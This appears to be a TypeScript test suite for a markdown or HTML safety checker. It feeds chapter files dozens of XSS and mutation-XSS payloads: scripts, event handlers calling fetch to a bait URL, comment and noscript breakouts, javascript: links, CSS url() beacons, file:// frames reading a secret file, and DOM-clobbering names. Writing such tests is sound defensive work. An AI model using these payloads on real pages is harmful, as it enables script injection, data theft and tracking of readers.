import { attacks, type Bait } from '../support/attack.js';

/** An attack by the HTML of a chapter, which stands on its third line. */
const html = (write: (bait: Bait) => string, ...says: string[]) => ({
  files: (bait: Bait) => ({ 'chapter.md': write(bait) }),
  says: (says.length ? says : ['3 html-is-safe']).map((line) => `chapter.md:${line}`),
});

attacks('scripts', {
  'a script': html(({ url }) => `<script>fetch("${url}"); document.body.append("ran")</script>`),
  'a script from elsewhere, in the middle of a sentence': html(
    ({ url }) => `Text <script src="${url}/x.js"></script> goes on.`,
  ),
  'a script in capitals': html(({ url }) => `<ScRiPt SRC="${url}/x.js"></sCrIpT>`),
  'a script that is put together by taking one out': html(
    ({ url }) => `<scr<script>ipt>fetch("${url}")</scr</script>ipt>`,
  ),
  'a script that is never closed': html(
    ({ url }) => `Text <script src="${url}/x.js">\n\n<script src=${url}/y.js`,
  ),
  'a script in a drawing': html(
    ({ url }) => `<svg><script href="${url}/x.js">fetch("${url}")</script></svg>`,
  ),
  'a script behind a comment that ends early': html(
    ({ url }) => `<!-- --!><script>fetch("${url}")</script> -->`,
  ),
  'a script in a template': html(({ url }) => `<template><script>fetch("${url}")</script></template>`),
  'markup that is another one after it is read twice': html(
    ({ url }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${url} onerror=fetch('${url}')&gt;">`,
  ),
  'markup hidden in noscript': html(
    ({ url }) => `<noscript><p title="</noscript><img src=x onerror=fetch('${url}')>"></noscript>`,
  ),
  'markup hidden in a title': html(
    ({ url }) => `<title><p id="</title><script>fetch('${url}')</script>"></title>`,
  ),
  'markup hidden in xmp and plaintext': html(
    ({ url }) => `<xmp><p title="</xmp><script>fetch('${url}')</script>"></xmp>`,
  ),
});

attacks('event handlers', {
  'onerror of an image': html(
    ({ url }) => `<img src="none.png" onerror="fetch('${url}')">`,
    '3 html-is-safe',
    '3 image-exists',
  ),
  'onload of a paragraph': html(({ url }) => `<p onload="fetch('${url}')">Text</p>`),
  'onload of the body': html(({ url }) => `<body onload="fetch('${url}')">`),
  'onload of the body, in the middle of a sentence': html(
    ({ url }) => `Text <BODY ONLOAD="fetch('${url}')"> goes on.`,
  ),
  'onclick behind a slash': html(({ url }) => `<div><p/ONCLICK=fetch('${url}')>Text</p></div>`),
  'onclick of a cell that no table holds': html(({ url }) => `<td onclick="fetch('${url}')">Text</td>`),
  'onclick of an element that does not exist': html(({ url }) => `<xss onclick="fetch('${url}')">T</xss>`),
  'onclick of an element with the name of a property': html(
    ({ url }) => `<constructor onclick="fetch('${url}')">T</constructor>`,
  ),
  'onstart of a marquee': html(({ url }) => `<marquee onstart="fetch('${url}')">Text</marquee>`),
  'onerror of an isindex': html(({ url }) => `<isindex type=image src=1 onerror="fetch('${url}')">`),
  'onclose of a dialog': html(({ url }) => `<dialog open onclose="fetch('${url}')">Text</dialog>`),
  'onload of a drawing and onclick of its shape': html(
    ({ url }) => `<svg onload="fetch('${url}')">\n<circle r="5" onclick="fetch('${url}')"/></svg>`,
    '3 html-is-safe',
    '4 html-is-safe',
  ),
  'onbegin of an animation': html(({ url }) => `<svg><animate onbegin="fetch('${url}')"/></svg>`),
  'onclick of a formula': html(({ url }) => `<math onclick="fetch('${url}')"><mi>x</mi></math>`),
  'ontoggle of details': html(
    ({ url }) => `<details open ontoggle="fetch('${url}')"><summary>S</summary>T</details>`,
  ),
});

attacks('frames and objects', {
  'a frame that shows a file': html(({ folder }) => `<iframe src="file://${folder}/secret.txt"></iframe>`),
  'a frame with a document of its own': html(
    ({ url }) => `<iframe srcdoc="&lt;script&gt;fetch('${url}')&lt;/script&gt;"></iframe>`,
  ),
  'a set of frames': html(
    ({ url }) => `<frameset onload="fetch('${url}')">\n<frame src="${url}"></frameset>`,
    '3 html-is-safe',
    '4 html-is-safe',
  ),
  'a set of frames inside a block': html(
    ({ folder }) => `<div><frameset><frame src="file://${folder}/secret.txt"></frameset></div>`,
  ),
  'a document in an attribute of what is no frame': html(
    ({ url }) => `<p srcdoc="&lt;img src=${url}&gt;">Text</p>`,
  ),
  'a portal': html(({ url }) => `<portal src="${url}"></portal>`),
  'an applet': html(({ url }) => `<applet code="x" codebase="${url}"></applet>`),
  'an object': html(({ folder }) => `<object data="file://${folder}/secret.txt" type="text/plain"></object>`),
  'an embedded file': html(({ folder }) => `<embed src="file://${folder}/secret.txt">`),
  'audio, video and what belongs to them': html(
    ({ url }) =>
      `<video src="${url}/v.mp4" poster="${url}/p.png"><track src="${url}/t.vtt"></video>\n\n<audio autoplay><source src="${url}/a.mp3"></audio>`,
    '3 html-is-safe',
    '5 html-is-safe',
  ),
});

attacks('what changes the document', {
  'a link to a stylesheet': html(({ url }) => `<link rel="stylesheet" href="${url}/x.css">`),
  'another base': html(({ url }) => `<base href="${url}/">\n\n[A link](other.md)`),
  'a refresh': html(({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`),
  'a style element': html(
    ({ url }) => `<style>@import url("${url}/x.css"); p { background: url("${url}/x.png") }</style>`,
  ),
  'a style attribute, spelt another way': html(
    ({ url }) => `<p style="background: u\\72l/**/('${url}/x.png')">Text</p>`,
  ),
  'a style attribute that asks for nothing': html(
    () => `<p style="text-align: center">Text</p>`,
    '3 warning html-is-known',
  ),
  'a style attribute': html(({ url }) => `<p style="background: url('${url}/x.png')">Text</p>`),
  'a form with an image to press': html(
    ({ url }) =>
      `<form action="${url}"><input type="image" src="${url}/x.png"><button formaction="javascript:fetch('${url}')">B</button></form>`,
  ),
  'a source set': html(
    ({ url }) =>
      `<picture><source srcset="${url}/x.png 1x"><img src="none.png" srcset="${url}/y.png 2x" alt=""></picture>`,
  ),
  'an instruction to use a stylesheet, a document type, an entity, a section of text': html(
    ({ url }) =>
      `<?xml-stylesheet href="${url}/x.css"?>\n\n<!DOCTYPE html SYSTEM "${url}/x.dtd">\n\n<!ENTITY x SYSTEM "${url}/x">\n\n<![CDATA[<script>fetch('${url}')</script>]]>`,
    '3 warning html-is-known',
    '5 warning html-is-known',
    '7 warning html-is-known',
    '9 warning html-is-known',
  ),
  'a picture behind a table, its cell and the body': html(
    ({ url }) =>
      `<table background="${url}/x.png">\n<tr><td background="${url}/y.png">c</td></tr></table>\n<body background="${url}/z.png">`,
    '3 html-is-safe',
    '4 html-is-safe',
    '5 html-is-safe',
  ),
  'a link that tells on the reader': html(({ url }) => `<a href="https://a.example" ping="${url}">Text</a>`),
  'old ways to load a picture': html(
    ({ url }) => `<img src="none.png" alt="" longdesc="${url}" dynsrc="${url}" lowsrc="${url}">`,
    '3 html-is-safe',
    '3 image-exists',
  ),
  'the image of a drawing': html(
    ({ url }) => `<svg><image xlink:href="${url}/x.png"/><use href="${url}/x.svg#a"/></svg>`,
    '3 warning html-is-known',
  ),
  'a map with areas': html(
    ({ url }) =>
      `<map name="m"><area href="javascript:fetch('${url}')"></map><img usemap="#m" src="none.png">`,
    '3 link-is-safe',
    '3 image-exists',
  ),
  'ids and names of things that scripts look for': html(
    () =>
      `<p id="__proto__" class="constructor __proto__">a</p><a name="cookie" id="body">b</a><img name="getElementById" src="none.png" alt=""><form id="attributes"></form>`,
    '3 html-is-safe',
    '3 image-exists',
    '3 warning html-is-known',
  ),
  'a root in the shadow': html(
    ({ url }) => `<div><template shadowrootmode="open"><img src="${url}/x.png"></template></div>`,
  ),
});
